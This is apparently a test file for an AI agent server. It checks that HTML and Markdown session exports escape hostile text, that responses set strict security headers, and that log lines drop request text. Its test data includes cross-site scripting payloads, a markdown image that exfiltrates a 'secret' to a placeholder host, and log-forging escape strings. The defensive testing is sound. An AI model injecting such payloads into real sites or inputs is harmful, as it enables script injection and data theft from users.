/** Text of models, tools and users as it leaves the server: in pages for people, in headers, in lines for logs. */
import { describe, expect, it } from "vitest";
import { defineAgent } from "@millrace/agent";
import type { Agent } from "@millrace/agent";
import { say, scriptedModel } from "@millrace/core/testing";
import type { RequestLine } from "./exchange.ts";
import { newKey, Served } from "../testing/served.ts";

const hostile: readonly (readonly [row: string, text: string])[] = [
  ["V01", "<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>"],
  ["V01", "</blockquote></section><iframe src=//evil><base href=//evil><meta http-equiv=refresh>"],
  ["V02", "![x](https://evil.example/?d=secret) [r]: https://evil.example"],
  ["V03", "[ok](javascript:alert(1)) <a href='data:text/html,x'>x</a>"],
  ["V06", "<style>@import url(//evil.example)</style><link rel=prefetch href=//evil.example>"],
];

function speaker(text: string): Agent {
  return defineAgent({
    model: {
      id: "echo/model",
      stream: (request) => scriptedModel([[say(text)]]).stream(request),
    },
  });
}

async function exported(text: string, format: string): Promise<Response> {
  const served = new Served(speaker(text));
  await served.create("s", { title: text });
  const input = { body: { kind: "prompt", text }, key: newKey(), headers: { prefer: "wait=20" } };
  await served.request("/v1/sessions/s/inputs", input);
  const answer = await served.request(`/v1/sessions/s/export?format=${format}`);
  const page = await answer.text();
  await served[Symbol.asyncDispose]();
  return new Response(page, { headers: answer.headers });
}

describe("an export", () => {
  it.each(hostile)("as a page shows %s as text: %s", async (_, text) => {
    const answer = await exported(text, "html");
    const page = await answer.text();
    // Only our own tags are there, and none of them has an address.
    const tags = [...page.matchAll(/<\/?([a-z]+\d?)([^>]*)>/gi)];
    const own = ["meta", "title", "h1", "h2", "section", "blockquote", "p", "em", "pre"];
    expect(tags.filter(([, tag = ""]) => !own.includes(tag))).toEqual([]);
    const attributes = new Set(tags.map(([, , rest = ""]) => rest.trim()));
    attributes.delete("");
    expect([...attributes].toSorted()).toEqual([
      'charset="utf-8"',
      'style="white-space: pre-wrap"',
    ]);
    expect(page).toContain(text.includes("<") ? "&lt;" : text.slice(0, 10));
  });

  it.each(hostile)(
    "as Markdown has %s as quoted text without tags and images: %s",
    async (_, text) => {
      const page = await (await exported(text, "markdown")).text();
      const [title = "", ...lines] = page.split("\n");
      expect(title).toMatch(/^# /);
      const said = lines.filter((line) => line !== "" && !/^## (?:user|model)$/.test(line));
      for (const line of said) expect(line).toMatch(/^> /);
      expect(page).not.toContain("<");
      expect(page).not.toContain("![");
    },
  );

  it("is a file for download that can load and frame nothing", async () => {
    const { headers } = await exported("hello", "html");
    expect(headers.get("content-disposition")).toMatch(/^attachment/);
    expect(headers.get("content-security-policy")).toContain("default-src 'none'");
    expect(headers.get("x-content-type-options")).toBe("nosniff");
  });
});

describe("every answer", () => {
  it("can be framed by nobody and loads nothing, whatever it is (H30)", async () => {
    await using served = new Served();
    await served.create("s");
    const anonymous = { headers: { authorization: "" } };
    const answers = [
      await served.request("/v1/sessions/s"),
      await served.request("/v1/sessions/none"),
      await served.request("/v1/sessions", anonymous),
      await served.request("/v1/health"),
      await served.request("/v1/openapi.json"),
      await served.request("/v1/sessions/s/events"),
      await served.request("/nowhere", { method: "DELETE" }),
    ];
    expect(answers.map(({ status }) => status)).toEqual([200, 404, 401, 200, 200, 200, 404]);
    for (const { headers, body } of answers) {
      const policy = headers.get("content-security-policy") ?? "";
      expect(policy).toContain("default-src 'none'");
      expect(policy).toContain("frame-ancestors 'none'");
      await body?.cancel();
    }
  });
});

describe("a line of the log", () => {
  it("has no text of the request: neither ids nor queries nor line breaks (H25)", async () => {
    const lines: RequestLine[] = [];
    await using served = new Served(undefined, { onRequest: (line) => lines.push(line) });
    const evil = "x%0a%1b[31mforged";
    await served.request(`/v1/sessions/${evil}`);
    await served.request(`/v1/sessions?q=${evil}`);
    await served.request("/v1/sessions", { body: { title: "a\n\u001B[31mforged" }, key: newKey() });
    await served.request(`/${evil}`);
    expect(lines).toHaveLength(4);
    const text = JSON.stringify(lines);
    expect(text).not.toContain("forged");
    expect(text).not.toMatch(/\\n|\\u001b/i);
  });
});
